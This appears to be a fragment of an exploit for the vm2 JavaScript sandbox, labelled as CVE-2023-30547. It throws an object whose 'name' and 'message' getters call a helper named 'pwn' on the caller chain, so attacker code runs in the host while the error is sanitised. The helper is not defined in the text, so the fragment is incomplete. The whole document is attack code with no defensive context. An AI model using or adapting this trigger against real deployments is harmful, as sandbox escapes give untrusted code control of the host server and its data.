// vm2 CVE-2023-30547: getter on the thrown object runs during the host's sanitising
throw { get name() { try { pwn(arguments.callee.caller) } catch (e) {} return 'Error' }, get message() { try { pwn(arguments.callee.caller.caller) } catch (e) {} return 'm' }, get stack() { return 's' } };
